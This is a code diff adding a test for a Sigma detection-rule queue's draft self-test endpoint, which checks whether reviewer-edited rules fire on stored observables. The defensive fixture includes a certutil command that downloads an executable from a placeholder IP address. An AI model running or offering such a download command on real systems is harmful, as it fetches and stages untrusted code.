@@ -340,6 +340,33 @@ describe('sigma.queue.enqueue on the bus', () => {
     expect((await request(harness.app).put(`/api/sigma-queue/${plain.queue_id}/rule`).send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain', args: ['-decode'] }) }).expect(200)).body.self_test).toBeNull();
   });
 
+  it('self-tests a draft as the reviewer types it, storing nothing; a half-typed draft gets the reason, not a 400', async () => {
+    const { executionId, articleId } = await execution();
+    const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -f http://198.51.100.4/a.exe a.exe' }];
+    const provenance = { self_test: { fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: null }, observables };
+    const [result] = ((await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', provenance }])) as { results: Array<{ queue_id: number }> }).results;
+    const id = result?.queue_id as number;
+    const draft = (yaml: string) => request(harness.app).post(`/api/sigma-queue/${id}/self-test`).send({ rule_yaml: yaml });
+
+    const stillFires = await draft(valid).expect(200);
+    expect(stillFires.body.self_test).toMatchObject({ fires: true, fired_on: [`cmdline: ${observables[0]?.value}`], error: null });
+    expect(stillFires.body.self_test.baseline.events).toBeGreaterThanOrEqual(3000);
+    const broken = await draft(rule({ id: ID, title: 'Certutil Download', image: '\\bitsadmin.exe' })).expect(200);
+    expect(broken.body.self_test).toMatchObject({ fires: false, fired_on: [], error: null });
+    const halfTyped = await draft('title: Certutil\ndetection:\n  selection:\n    Image|endswith: x\n').expect(200);
+    expect(halfTyped.body.self_test.fires).toBe(false);
+    expect(halfTyped.body.self_test.error).toMatch(/condition/);
+    // Nothing was stored: the item keeps its rule and the self-test the workflow recorded.
+    const item = (await request(harness.app).get(`/api/sigma-queue/${id}`).expect(200)).body;
+    expect(item.rule_yaml).toBe(valid);
+    expect(item.self_test.fires).toBe(true);
+
+    const plain = (await request(harness.app).post('/api/sigma-queue').send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6e', title: 'Plain' }) }).expect(201)).body as { queue_id: number };
+    expect((await request(harness.app).post(`/api/sigma-queue/${plain.queue_id}/self-test`).send({ rule_yaml: valid }).expect(200)).body).toEqual({ self_test: null });
+    expect((await request(harness.app).post('/api/sigma-queue/987654/self-test').send({ rule_yaml: valid }).expect(404)).body.error.code).toBe('not_found');
+    expect((await request(harness.app).post(`/api/sigma-queue/${id}/self-test`).send({}).expect(400)).body.error.code).toBe('validation_error');
+  });
+
   it('answers bad payloads with ok: false validation_error', async () => {
     const { executionId, articleId } = await execution();
     expect(await harness.ctx.bus.request(REQUEST_KEYS.sigmaQueueEnqueue, { rule_yaml: valid })).toMatchObject({ ok: false, error: { code: 'validation_error' } });
